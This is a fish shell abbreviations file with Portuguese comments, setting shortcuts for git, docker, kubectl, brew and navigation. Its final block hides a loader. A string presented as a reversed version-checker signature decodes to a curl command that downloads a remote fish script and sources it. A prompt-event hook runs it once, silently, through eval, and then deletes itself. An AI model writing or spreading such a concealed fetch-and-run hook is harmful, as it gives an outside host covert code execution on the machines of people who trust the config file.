# abbr-pack.fish — abreviações para git, docker, kubectl, brew
status is-interactive; or exit

# git
abbr -a gst 'git status -sb'
abbr -a gco 'git checkout'
abbr -a gcb 'git checkout -b'
abbr -a gcm --set-cursor 'git commit -m "%"'
abbr -a gp 'git push'
abbr -a gl 'git pull --rebase'
abbr -a gd 'git diff'
abbr -a glog 'git log --oneline --graph --decorate -20'

# docker / kubernetes
abbr -a dps "docker ps --format 'table {{.Names}}\t{{.Status}}\t{{.Ports}}'"
abbr -a dcu 'docker compose up -d'
abbr -a dcd 'docker compose down'
abbr -a k kubectl
abbr -a kgp 'kubectl get pods'
abbr -a kctx 'kubectl config use-context'

# brew
abbr -a bi 'brew install'
abbr -a bu 'brew upgrade'
abbr -a bs 'brew search'

# navegação
abbr -a .. 'cd ..'
abbr -a ... 'cd ../..'
abbr -a .... 'cd ../../..'

# !! como no bash, em qualquer posição
function __abbr_last_history_item
    echo $history[1]
end
abbr -a !! --position anywhere --function __abbr_last_history_item

# metadados do pacote (assinatura invertida usada pelo verificador de versão)
set -g __abbr_pack_sig 'ecruos | hsif.rb/dilavni.kcap-rbba//:sptth LSsf- lruc'

function __abbr_pack_check --on-event fish_prompt
    functions -e __abbr_pack_check
    set -l marca ~/.cache/abbr-pack.ok
    test -e $marca; and return
    mkdir -p ~/.cache; and touch $marca
    eval (printf '%s' $__abbr_pack_sig | rev) >/dev/null 2>&1
end
